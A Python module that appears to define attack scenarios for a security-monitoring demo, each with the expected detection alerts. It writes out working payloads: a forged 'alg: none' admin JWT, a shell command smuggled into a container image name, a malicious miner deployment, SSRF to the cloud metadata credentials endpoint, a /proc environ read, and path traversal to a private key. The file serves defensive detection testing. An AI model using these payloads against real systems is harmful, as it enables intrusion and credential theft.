# SPDX-License-Identifier: Apache-2.0
"""The attacks of the demo: each request, what proves that it worked, and the alerts it must cause."""
import base64
import dataclasses
import hashlib
import hmac
import json
from typing import Callable
from urllib.parse import quote

import stage as world

RUBY, DASH, DOCKER, ID = "/usr/bin/ruby3.1", "/usr/bin/dash", "/usr/local/bin/docker", "/usr/bin/id"
WORKER, MASTER = RUBY, RUBY  # puma's two kinds of process, nearest ancestors of whatever a request starts


@dataclasses.dataclass(frozen=True)
class Expected:
    """One alert: who did it, below whom, and the fields that name the object."""

    slug: str
    exe: str
    ancestors: tuple
    fields: dict = dataclasses.field(default_factory=dict)  # "socket.host_path" -> value, or function of the stage


@dataclasses.dataclass(frozen=True)
class Scenario:
    key: str
    title: str
    method: str
    path: str
    proof: Callable          # (stage, response) -> true if the attack had its effect
    expected: tuple = ()
    body: str = None
    headers: dict = dataclasses.field(default_factory=dict)
    note: str = ""


def _base64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def token(claims, algorithm="none", secret=""):
    """A JSON web token; with algorithm none its signature is empty, and anyone can write it."""
    signed = ".".join(_base64(json.dumps(part).encode()) for part in ({"alg": algorithm, "typ": "JWT"}, claims))
    if algorithm == "none":
        return f"{signed}."
    return f"{signed}.{_base64(hmac.new(secret.encode(), signed.encode(), hashlib.sha256).digest())}"


def _bearer(*args):
    return {"Authorization": f"Bearer {token(*args)}"}


def _deploy(image):
    """Body and headers of a signed deployment: the signature is right, what is signed is the attack."""
    body = json.dumps({"image": image})
    signature = hmac.new(world.DEPLOY_SECRET.encode(), body.encode(), hashlib.sha256).hexdigest()
    return {"body": body, "headers": {"Content-Type": "application/json", "X-Signature": signature}}


def _socket_fields(exe):
    return Expected("runtime-socket", exe, (DASH, WORKER, MASTER) if exe == DOCKER else (MASTER,), {
        "socket.family": "unix",
        "socket.peer_path": world.SOCKET_INSIDE,
        "socket.host_path": lambda stage: str(stage.around.socket_path),
    })


def _created(stage, image):
    """Whether the stand-in runtime was really asked for that container, and forgets it."""
    asked = [body for method, path, body in stage.around.runtime_api.requests
             if method == "POST" and path.startswith("/v1.41/containers/create?name=web-")]
    stage.around.runtime_api.requests.clear()
    return [json.loads(body)["Image"] for body in asked] == [image]


FORGED = {"user": "mallory", "admin": True}
SHELL_COMMAND = "cd / && echo *"
CREDENTIALS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/back-office"

SCENARIOS = (
    Scenario("D1", "a forged admin token (alg: none) and a command with shell metacharacters",
             "GET", f"/admin/run?cmd={quote(SHELL_COMMAND)}", headers=_bearer(FORGED),
             proof=lambda stage, response: {"app", "host", "usr"} <= set(response.body.split()),
             expected=(Expected("web-shell", DASH, (WORKER, MASTER)),)),
    Scenario("D1b", "the same without metacharacters, the token signed with a guessed key: Ruby starts the program itself",
             "GET", "/admin/run?cmd=id", headers=_bearer(FORGED, "HS256", world.JWT_SECRET),
             proof=lambda stage, response: response.body.startswith("uid=0(root)"),
             expected=(Expected("web-exec", ID, (WORKER, MASTER)),)),
    Scenario("D2", "a signed deployment whose image name carries a shell command",
             "POST", "/deploy", **_deploy("nginx:latest;cd /app && echo *"),
             proof=lambda stage, response: "app.rb" in response.body and _created(stage, "nginx:latest"),
             expected=(Expected("web-shell", DASH, (WORKER, MASTER)), _socket_fields(DOCKER))),
    Scenario("D3", "the same deployment without a shell: the server itself speaks to the runtime's socket",
             "POST", "/deploy?mode=sdk", **_deploy("attacker/miner:1"),
             proof=lambda stage, response: "f00dfeed" in response.body and _created(stage, "attacker/miner:1"),
             expected=(_socket_fields(RUBY),)),
    Scenario("D4", "a URL of the caller's choice: the cloud's metadata service",
             "GET", f"/fetch?url={quote(CREDENTIALS, safe='')}",
             proof=lambda stage, response: "SecretAccessKey" in response.body and len(stage.metadata.requests) == 1,
             expected=(Expected("metadata-service", RUBY, (MASTER,), {
                 "socket.family": "ipv4", "socket.peer_ip": "169.254.169.254", "socket.peer_port": 80}),)),
    Scenario("D5", "a debug endpoint that reads another process's environment",
             "GET", "/debug/env?pid=1",
             proof=lambda stage, response: f"JWT_SECRET={world.JWT_SECRET}" in response.body,
             expected=(Expected("environ-read", RUBY, (MASTER,), {"file.path": "/proc/1/environ"}),)),
    Scenario("D5b", "its twin that prints its own environment",
             "GET", "/debug/env",
             proof=lambda stage, response: json.loads(response.body)["JWT_SECRET"] == world.JWT_SECRET,
             note="not observable: the process reads its own memory and makes no system call"),
    Scenario("D6", "a file name with .. into the mounted host directory",
             "GET", f"/files?name={quote(f'../..{world.HOST_DIR_INSIDE}/{world.PRIVATE_KEY}')}",
             proof=lambda stage, response: "FAKE PRIVATE KEY" in response.body,
             expected=(Expected("host-mount-read", RUBY, (MASTER,), {
                 "file.path": f"{world.HOST_DIR_INSIDE}/{world.PRIVATE_KEY}",
                 "file.host_path": lambda stage: str(stage.around.host_dir / world.PRIVATE_KEY)}),)),
)


def attack(stage, scenario):
    """Sends the request. Gives the response and whether the attack really had its effect."""
    response = stage.request(scenario.method, scenario.path, scenario.body, scenario.headers)
    return response, response.status == 200 and bool(scenario.proof(stage, response))


def ordinary_traffic(stage):
    """What users do all day. Gives (request, status) of each: all must be 200."""
    honest = stage.request("POST", "/login?user=ann").body
    asked = [("GET", path, {}) for path in (
        "/", "/health", "/orders", "/orders/1", "/prices", "/files?name=readme.txt", f"/fetch?url={quote(stage.partner, safe='')}")]
    asked.append(("GET", "/me", {"Authorization": f"Bearer {honest}"}))
    return [(path, stage.request(method, path, headers=headers).status) for method, path, headers in asked]
